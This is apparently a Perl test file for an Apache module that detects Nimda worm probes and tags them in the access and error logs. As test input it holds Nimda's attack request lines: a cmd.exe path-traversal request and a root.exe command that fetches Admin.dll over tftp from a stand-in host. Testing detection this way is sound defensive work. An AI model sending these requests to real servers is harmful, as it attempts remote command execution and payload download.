# Probes httpd rejects itself before any request hook runs (Nimda's tftp
# follow-up with spaces in the request line) are still tagged in the
# logging phase: WR00005, WORM_PROBE in the access log.
use strict;
use warnings FATAL => 'all';
use FindBin;
use lib "$FindBin::Bin/lib";
use Apache::Test qw(-withtestmore);
use WormreplyTest qw(:all);

plan tests => 23, need_module 'wormreply';

# As Nimda sent it to a host that had answered its scan: the tftp command
# with raw spaces, so httpd sees extra words after the target.
my $tftp = 'GET /scripts/root.exe?/c+tftp -i 192.0.2.1 GET Admin.dll '
    . 'c:\\Admin.dll HTTP/1.0';
# httpd keeps only the line up to the offending word for its logs
# (r->the_request "GET /scripts/root.exe?/c+tftp -i" in 2.4.71): accept
# any prefix of the line that keeps the tftp command.
my $q = '(?:GET /scripts/root\.exe\?/c\+tftp -i(?:[^"]*))';

sub send_line {
    my($vh, $line) = @_;
    my $port = vhost_port($vh);
    my $aoff = log_size('worm_access.log');
    my $eoff = log_size('error_log');
    my $r = send_raw($vh, "$line\r\nHost: www\r\nConnnection: close\r\n\r\n");
    my $p = parse_response($r->{data});
    my @acc = grep { /p=$port$/ }
        log_wait('worm_access.log', $aoff, [qr/ wp=\S+ p=$port$/]);
    my @err = log_lines_since('error_log', $eoff);
    return ($p, \@acc, \@err);
}

{
    my($p, $acc, $err) = send_line('wr_on', $tftp);
    is $p->{code}, 400, 'tftp line with spaces: httpd itself answers 400';
    unlike $p->{body} // '', qr/\A404 Not Found\n\z/,
        'not the module\'s answer';
    is scalar(@$acc), 1, 'one access-log line';
    like $acc->[0] // '', qr/^127\.0\.0\.1 400 "$q" wp=nimda /,
        'the access log shows 400 and wp=nimda';
    my($kept) = ($acc->[0] // '') =~ /"([^"]*)"/;
    is index($tftp, $kept // 'x'), 0,
        'what httpd logged is the start of the line Nimda sent';
    my @wr = grep { /WR00005: / } @$err;
    is scalar(@wr), 1, 'one WR00005 line';
    like $wr[0] // '',
        qr/\[wormreply:info\].*WR00005: nimda probe from 127\.0\.0\.1, rejected by httpd \(status 400\): $q$/,
        'WR00005 names family, source, status and the request line';
    is scalar(grep { /WR00004: / } @$err), 0, 'no WR00004 for it';
}

{
    my $poff = log_size('probes_only.log');
    my $port = vhost_port('wr_on');
    send_line('wr_on', $tftp);
    my @p = grep { /p=$port$/ }
        log_wait('probes_only.log', $poff, [qr/"$q" wp=nimda p=$port$/]);
    is scalar(@p), 1, 'the env=WORM_PROBE log gets the rejected probe';
}

# With "ErrorDocument 400 /local/url" httpd sends no error response: it
# redirects internally, and the redirect's quick handler tags the line.
{
    my $poff = log_size('probes_only.log');
    my $port = vhost_port('wr_errdoc');
    my($p, $acc, $err) = send_line('wr_errdoc', $tftp);
    is $p->{code}, 400, 'ErrorDocument 400: still 400';
    like $acc->[0] // '', qr/^127\.0\.0\.1 400 "$q" wp=nimda /,
        'ErrorDocument 400: the access log shows wp=nimda';
    is scalar(grep { /WR00005: / } @$err), 1, 'ErrorDocument 400: one WR00005';
    my @p = grep { /p=$port$/ }
        log_wait('probes_only.log', $poff, [qr/"$q" wp=nimda p=$port$/]);
    is scalar(@p), 1, 'ErrorDocument 400: the env=WORM_PROBE log gets it';
}

{
    my($p, $acc, $err) = send_line('wr_off', $tftp);
    is $p->{code}, 400, 'WormReply off: 400 as well';
    like $acc->[0] // '', qr/^127\.0\.0\.1 400 "$q" wp=- /,
        'WormReply off: not tagged';
    is scalar(grep { /WR0000[45]: / } @$err), 0, 'WormReply off: no WR line';
}

{
    my $junk = 'GET /docs/some page.html HTTP/1.0';
    my($p, $acc, $err) = send_line('wr_on', $junk);
    is $p->{code}, 400, 'an ordinary line with spaces: 400';
    like $acc->[0] // '', qr/ 400 ".*" wp=- /, 'and not tagged';
    is scalar(grep { /WR0000[45]: / } @$err), 0, 'and no WR line';
}

# The same follow-ups in a form httpd accepts are answered by the module.
# The error log shows the request line as the access log does: httpd
# escapes each error-log message itself, so one more escaping by the module
# turns the backslash of c:\Admin.dll into four.
{
    my $t = '/scripts/..%255c../winnt/system32/cmd.exe?/c+tftp%20-i%20'
        . '192.0.2.1%20GET%20Admin.dll%20c:\\Admin.dll';
    my $port = vhost_port('wr_on');
    my $aoff = log_size('worm_access.log');
    my $eoff = log_size('error_log');
    send_raw('wr_on', nimda_request($t));
    my($acc) = grep { /p=$port$/ }
        log_wait('worm_access.log', $aoff, [qr/ p=$port$/]);
    my($r) = ($acc // '') =~ /"([^"]*)"/;
    my($wr) = grep { /WR00004: / } log_lines_since('error_log', $eoff);
    my($e) = ($wr // '') =~ /WR00004: .*?, answered 404: (.*)$/;
    is $e, $r, 'WR00004 shows the request line escaped once, as %r does';
}
for my $t ('/scripts/..%255c../winnt/system32/cmd.exe?/c+tftp%20-i%20192.0.2.1%20GET%20Admin.dll%20c:\\Admin.dll',
           '/scripts/Admin.dll') {
    my $r = send_raw('wr_on', nimda_request($t));
    my $p = parse_response($r->{data});
    ok is_tiny($p, 404), "nimda follow-up $t: answered by the module";
}

{
    my($p, $acc, $err) = send_line('wr_pass', $tftp);
    like $acc->[0] // '', qr/^127\.0\.0\.1 400 "$q" wp=nimda /,
        'pass: a rejected probe is tagged too';
}
